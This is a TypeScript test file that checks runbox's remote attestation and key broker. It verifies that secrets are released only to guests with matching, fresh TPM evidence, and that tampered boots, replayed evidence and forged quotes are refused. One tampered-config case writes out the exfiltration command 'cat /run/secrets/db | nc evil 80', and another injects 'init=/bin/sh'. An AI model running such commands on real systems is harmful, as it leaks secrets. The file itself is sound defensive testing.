// Remote attestation end to end, with real swtpm, QEMU under TCG and runbox's key broker: a guest whose evidence
// matches the reference values gets its secret (and nothing of it is on the host's disk or in its logs); a guest
// booted from another initramfs or command line, or given another config.json or policy, or evidence replayed from
// an earlier session, or a quote signed by a key that does not chain to the vTPM's EK, gets none, and the
// container does not start, with an error naming what differed.
import test from 'ava';
import { createHash, randomBytes } from 'node:crypto';
import { appendFileSync, copyFileSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { execFileSync } from 'node:child_process';
import { setTimeout as sleep } from 'node:timers/promises';
import { TestEnv, errorMessage, processesMentioning, runCommand, RUNBOX, PROJECT } from './helpers/runbox.js';
import { enclaveBundle } from './helpers/enclave.js';
import { KbsMitm, softwareQuoteSignature, TestKbs } from './helpers/kbs.js';

const RESOURCE = 'default/key/db';

function secretBundle(env: TestEnv, args: string[], extra: { policy?: Record<string, boolean>; annotations?: Record<string, string> } = {}): string {
  return enclaveBundle(env, {
    args,
    policy: extra.policy ?? { output: true },
    annotations: { 'io.runbox.enclave.secret.db': RESOURCE, ...extra.annotations },
  });
}

/** Every regular file under `dir` (not following links) whose bytes hold `needle`. */
function filesHolding(dir: string, needle: Buffer): string[] {
  const found: string[] = [];
  const walk = (path: string): void => {
    let stat;
    try {
      stat = lstatSync(path);
    } catch {
      return;
    }
    if (stat.isDirectory()) for (const entry of readdirSync(path)) walk(join(path, entry));
    else if (stat.isFile() && stat.size < 256 * 2 ** 20 && readFileSync(path).includes(needle)) found.push(path);
  };
  walk(dir);
  return found;
}

test('a guest whose evidence matches gets its secret, and nothing of the secret is on the host\'s disk or in its logs', async (t) => {
  const env = new TestEnv(t);
  const kbs = new TestKbs(t, env);
  await kbs.start();
  const secret = `s3cret-${randomBytes(12).toString('hex')}`;
  await kbs.putResource(t, RESOURCE, secret);
  const bundle = secretBundle(env, ['sh', '-c', 'sha256sum /run/secrets/db | cut -d" " -f1; stat -c "%a %u" /run/secrets/db; grep -c " /run/secrets " /proc/mounts; sleep 1000']);
  await kbs.register(t, 'db-reader', bundle);
  const id = env.id();
  const out = join(env.dir, 'container.out');
  const runLog = join(env.dir, 'runbox.log');
  const made = await runCommand('sh', ['-c', 'exec "$0" --root "$1" --log "$2" run -d --bundle "$3" "$4" > "$5"', RUNBOX, env.root, runLog, bundle, id, out], { env: kbs.env });
  t.is(made.code, 0, made.stderr);
  for (const end = Date.now() + 20_000; Date.now() < end && !/\n.*\n.*\n/.test(existsSync(out) ? readFileSync(out, 'utf8') : ''); await sleep(50));
  const [digest, mode, mounted] = readFileSync(out, 'utf8').split('\n');
  t.is(digest, createHash('sha256').update(secret).digest('hex'), 'the container read the secret the broker holds');
  t.is(mode, '400 0', 'the secret file is the container user\'s alone');
  t.is(mounted, '1', '/run/secrets is a mount of its own (read-only, from the guest\'s tmpfs)');
  t.regex(kbs.log(), /attested: matches reference values "db-reader"/);
  t.regex(kbs.log(), /default\/key\/db released/);

  // While the container runs with its secret, and after: nowhere on the host but in the broker's memory.
  const needle = Buffer.from(secret);
  const places = [env.dir, '/run/runbox-qemu', '/run/runbox-enclave', '/tmp/runbox-out-unused'];
  t.deepEqual(places.flatMap((dir) => filesHolding(dir, needle)), [], 'no file holds the secret while the container runs');
  t.is((await env.run(['delete', '--force', id])).code, 0);
  t.deepEqual(processesMentioning(join(env.root, id)), []);
  t.deepEqual(places.flatMap((dir) => filesHolding(dir, needle)), [], 'nor after');
  t.false(kbs.log().includes(secret) || (existsSync(runLog) && readFileSync(runLog, 'utf8').includes(secret)), 'no log holds it');
});

test('another initramfs, command line, config.json, policy or rootfs than the reference values\': no secret, the container does not start, the PCR that differs is named', async (t) => {
  const env = new TestEnv(t);
  const kbs = new TestKbs(t, env);
  await kbs.start();
  await kbs.putResource(t, RESOURCE, 'not for them');
  const args = ['sh', '-c', 'cat /run/secrets/db'];

  // The enclave initramfs with one file more (a cpio appended: the kernel unpacks both).
  const initrd = join(env.dir, 'initrd-plus-one.img');
  copyFileSync(join(PROJECT, 'build', 'guest', 'enclave-initrd.img'), initrd);
  const extra = join(env.dir, 'extra');
  mkdirSync(extra);
  writeFileSync(join(extra, 'one-more-file'), 'hello\n');
  appendFileSync(initrd, execFileSync('sh', ['-c', 'cd "$0" && echo one-more-file | /bin/busybox cpio -o -H newc 2>/dev/null', extra]));
  const plain = secretBundle(env, args);
  await kbs.register(t, 'plain', plain);
  const cases: Array<{ what: string; bundle: string; env?: NodeJS.ProcessEnv; cause: RegExp }> = [
    { what: 'an initrd with one extra file', bundle: plain, env: { RUNBOX_ENCLAVE_INITRD: initrd }, cause: /PCR 9 \(initrd .*enclave-initrd\.img\) is [0-9a-f]+…, the reference value [0-9a-f]+…/ },
  ];
  // The same bundles, changed after their reference values were taken.
  const cmdline = secretBundle(env, args);
  await kbs.register(t, 'cmdline', cmdline);
  const config = JSON.parse(readFileSync(join(cmdline, 'config.json'), 'utf8'));
  config.annotations['io.runbox.enclave.kernel-params'] = 'init=/bin/sh';
  writeFileSync(join(cmdline, 'config.json'), JSON.stringify(config));
  cases.push({ what: 'a changed kernel command line', bundle: cmdline, cause: /PCR 12 \(kernel command line "[^"]*"\) is [0-9a-f]+…, the reference value/ });
  const changedConfig = secretBundle(env, args);
  await kbs.register(t, 'config', changedConfig);
  const spec = JSON.parse(readFileSync(join(changedConfig, 'config.json'), 'utf8'));
  spec.process.args = ['sh', '-c', 'cat /run/secrets/db | nc evil 80'];
  writeFileSync(join(changedConfig, 'config.json'), JSON.stringify(spec));
  cases.push({ what: 'a changed config.json', bundle: changedConfig, cause: /PCR 8 \(initdata: the create request and policy the guest was given\) is [0-9a-f]+…, the reference value/ });
  const changedPolicy = secretBundle(env, args);
  await kbs.register(t, 'policy', changedPolicy);
  writeFileSync(join(changedPolicy, 'policy.json'), JSON.stringify({ output: true, exec: true }));
  cases.push({ what: 'a changed policy', bundle: changedPolicy, cause: /PCR 8 \(initdata: the create request and policy the guest was given\) is [0-9a-f]+…, the reference value/ });
  // The rootfs's dm-verity root hash is in the create request: a file added to it changes the initdata.
  const changedRootfs = secretBundle(env, args);
  await kbs.register(t, 'rootfs', changedRootfs);
  writeFileSync(join(changedRootfs, 'rootfs', 'one-more-file'), 'hello\n');
  cases.push({ what: 'a changed rootfs', bundle: changedRootfs, cause: /PCR 8 \(initdata: the create request and policy the guest was given\) is [0-9a-f]+…, the reference value/ });

  for (const { what, bundle, env: extraEnv, cause } of cases) {
    const id = env.id();
    const result = await kbs.run(['run', '--bundle', bundle, id], extraEnv);
    t.is(result.code, 1, `${what}: refused`);
    t.is(result.stdout, '', `${what}: the container did not run`);
    t.regex(errorMessage(result.stderr), new RegExp(`container ${id}: enclave attestation: the key broker refused the evidence: the evidence matches no reference values; .*${cause.source}`), what);
    t.false(existsSync(join(env.root, id)), `${what}: nothing is left`);
    t.deepEqual(processesMentioning(join(env.root, id)), []);
  }
  t.notRegex(kbs.log(), /released/, 'no secret was released');
});

test('evidence replayed from an earlier session, or a quote signed by a key that does not chain to the EK: refused, naming why', async (t) => {
  const env = new TestEnv(t);
  const kbs = new TestKbs(t, env);
  await kbs.start();
  await kbs.putResource(t, RESOURCE, 'only for fresh evidence');
  const mitm = new KbsMitm(t, env, kbs.socket);
  await mitm.listen();
  const bundle = secretBundle(env, ['sh', '-c', 'sha256sum /run/secrets/db'], { annotations: { 'io.runbox.enclave.kbs': mitm.socket } });
  await kbs.register(t, 'reader', bundle);
  const good = await kbs.run(['run', '--bundle', bundle, env.id()]);
  t.is(good.code, 0, good.stderr);
  t.is(mitm.attestations.length, 1, 'the man in the middle saw the good attestation');
  const recorded = mitm.attestations[0]!;

  const attempts: Array<{ what: string; rewrite: (a: Record<string, any>) => Record<string, any>; cause: RegExp }> = [
    {
      what: 'the earlier attestation, sent whole',
      rewrite: () => recorded,
      cause: /the runtime data's nonce is not this session's challenge \(replayed evidence\?\)/,
    },
    {
      what: 'the earlier evidence under this session\'s nonce and TEE key',
      rewrite: (a) => ({ ...a, 'tee-evidence': recorded['tee-evidence'] }),
      cause: /the credential this session made to the EK for the attestation key was not opened: the key is not in the EK's TPM, or the evidence is another session's/,
    },
    {
      what: 'a quote signed by a software key',
      rewrite: (a) => {
        const forged = softwareQuoteSignature(Buffer.from(a['tee-evidence'].tpm_quote.message, 'base64'));
        a['tee-evidence'].tpm_quote.signature = forged.signature.toString('base64');
        return a;
      },
      cause: /the quote is not signed by the attestation key \(a key that does not chain to the TPM's EK\)/,
    },
    {
      what: 'a quote signed by a software key, named as the attestation key',
      rewrite: (a) => {
        const forged = softwareQuoteSignature(Buffer.from(a['tee-evidence'].tpm_quote.message, 'base64'));
        a['tee-evidence'].tpm_quote.signature = forged.signature.toString('base64');
        a['tee-evidence'].ak_public = forged.spki.toString('base64');
        return a;
      },
      cause: /the evidence names another attestation key than the one the credential was made for/,
    },
  ];
  for (const { what, rewrite, cause } of attempts) {
    mitm.rewrite = rewrite;
    const id = env.id();
    const result = await kbs.run(['run', '--bundle', bundle, id]);
    t.is(result.code, 1, `${what}: refused`);
    t.is(result.stdout, '', `${what}: the container did not run`);
    t.regex(errorMessage(result.stderr), new RegExp(`container ${id}: enclave attestation: the key broker refused the evidence: ${cause.source}`), what);
    t.false(existsSync(join(env.root, id)));
  }
  t.is(kbs.log().match(/released/g)?.length, 1, 'only the good session got the secret');
});
